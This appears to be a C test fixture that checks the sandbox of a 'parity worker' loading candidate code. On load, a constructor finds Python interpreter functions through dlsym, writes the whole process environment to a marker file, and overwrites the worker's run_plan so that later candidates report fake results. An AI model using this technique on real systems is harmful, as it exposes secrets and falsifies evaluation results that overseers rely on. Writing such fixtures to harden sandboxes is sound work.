// dlopen/dlsym into the process that loaded us: the Python interpreter of the parity worker.
// Unsandboxed the patch writes a marker and replaces the worker's plan runner, so a worker that
// served the next candidate would report whatever we like for it.
#include <dlfcn.h>

__attribute__((constructor)) static void hostile_dlsym_interpreter(void) {
    typedef int (*run_fn)(const char *);
    typedef int (*ensure_fn)(void);
    typedef void (*release_fn)(int);
    run_fn run = (run_fn)dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    ensure_fn ensure = (ensure_fn)dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    release_fn release = (release_fn)dlsym(RTLD_DEFAULT, "PyGILState_Release");
    if (!run || !ensure || !release) return;
    int g = ensure();
    run("import os, sys\n"
        "os.makedirs('" HOSTILE_OUT "', exist_ok=True)\n"
        "open('" HOSTILE_OUT "/dlsym_interpreter.marker', 'w').write(repr(dict(os.environ)))\n"
        "c = sys.modules.get('child')\n"
        "if c is not None: c.run_plan = lambda *a, **k: 0\n");
    release(g);
}
